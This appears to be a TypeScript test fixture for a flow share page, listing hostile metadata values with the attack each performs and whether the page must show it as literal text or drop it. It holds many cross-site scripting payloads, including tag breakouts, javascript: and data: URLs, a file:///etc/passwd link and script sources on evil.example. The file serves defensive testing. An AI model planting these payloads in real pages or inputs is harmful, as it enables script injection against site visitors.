/**
 * Metadata a flow could carry to attack its own share page's visitors, or that a careless author
 * could paste. Each entry names its attack. `expect` says what the page must do with it:
 * `verbatim` — shown exactly as written, as text; `dropped` — left out of the page entirely.
 */
export type MetadataField = 'title' | 'description' | 'imageUrl' | 'favIconUrl' | 'tagManagerId' | 'name'

export interface HostileValue {
  attack: string
  field: MetadataField
  value: string
  expect: 'verbatim' | 'dropped'
}

export const HOSTILE_METADATA: HostileValue[] = [
  { attack: 'closes the title and opens a script', field: 'title', value: '</title><script>alert(1)</script>', expect: 'verbatim' },
  { attack: 'opens a comment that swallows the page', field: 'title', value: 'Hi <!-- rest of page', expect: 'verbatim' },
  {
    attack: 'closes the head and injects body markup',
    field: 'title',
    value: '</head><body><img src=x onerror=alert(1)>',
    expect: 'verbatim',
  },
  { attack: 'entity that decodes to markup', field: 'title', value: '&lt;script&gt;alert(1)&lt;/script&gt;', expect: 'verbatim' },
  {
    attack: 'breaks out of the content attribute with a double quote',
    field: 'description',
    value: '" onerror="alert(1)',
    expect: 'verbatim',
  },
  { attack: 'breaks out with a single quote', field: 'description', value: "' onmouseover='alert(1)' x='", expect: 'verbatim' },
  {
    attack: 'closes the meta tag and adds a script',
    field: 'description',
    value: '"><script src="https://evil.example/x.js"></script>',
    expect: 'verbatim',
  },
  { attack: 'fallback title from a hostile flow name', field: 'name', value: '<svg onload=alert(1)>', expect: 'verbatim' },
  { attack: 'javascript: favicon', field: 'favIconUrl', value: 'javascript:alert(1)', expect: 'dropped' },
  { attack: 'mixed-case javascript: favicon with leading space', field: 'favIconUrl', value: '  JaVaScRiPt:alert(1)', expect: 'dropped' },
  { attack: 'javascript: split by a tab', field: 'favIconUrl', value: 'java\tscript:alert(1)', expect: 'dropped' },
  {
    attack: 'data: favicon that is an HTML document',
    field: 'favIconUrl',
    value: 'data:text/html,<script>alert(1)</script>',
    expect: 'dropped',
  },
  { attack: 'vbscript: favicon', field: 'favIconUrl', value: 'vbscript:msgbox(1)', expect: 'dropped' },
  { attack: 'protocol-relative favicon', field: 'favIconUrl', value: '//evil.example/icon.png', expect: 'dropped' },
  { attack: 'javascript: preview image', field: 'imageUrl', value: 'javascript:alert(1)', expect: 'dropped' },
  { attack: 'data: preview image (crawlers want a URL)', field: 'imageUrl', value: 'data:image/png;base64,AAAA', expect: 'dropped' },
  { attack: 'preview image with credentials', field: 'imageUrl', value: 'https://user:secret@cdn.example/a.png', expect: 'dropped' },
  { attack: 'relative preview image', field: 'imageUrl', value: '/uploads/a.png', expect: 'dropped' },
  { attack: 'file: preview image', field: 'imageUrl', value: 'file:///etc/passwd', expect: 'dropped' },
  {
    attack: 'tag manager id that closes the script tag',
    field: 'tagManagerId',
    value: 'GTM-ABC123"></script><script>alert(1)</script>',
    expect: 'dropped',
  },
  { attack: 'tag manager id with extra query parameters', field: 'tagManagerId', value: 'GTM-ABCD&l=evil', expect: 'dropped' },
  { attack: 'tag manager id that is a URL', field: 'tagManagerId', value: 'https://evil.example/gtm.js', expect: 'dropped' },
  { attack: 'analytics id instead of a container id', field: 'tagManagerId', value: 'UA-12345-1', expect: 'dropped' },
]

/** URLs that are unusual but legitimate: kept, and never able to leave their attribute. */
export const QUOTED_URLS = [
  {
    attack: 'double quote inside a preview image URL',
    field: 'imageUrl',
    value: 'https://cdn.example/a.png?x="><script>alert(1)</script>',
  },
  {
    attack: 'SVG favicon data URL with markup and quotes',
    field: 'favIconUrl',
    value: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><text y="1em">🤖</text></svg>`,
  },
] as const
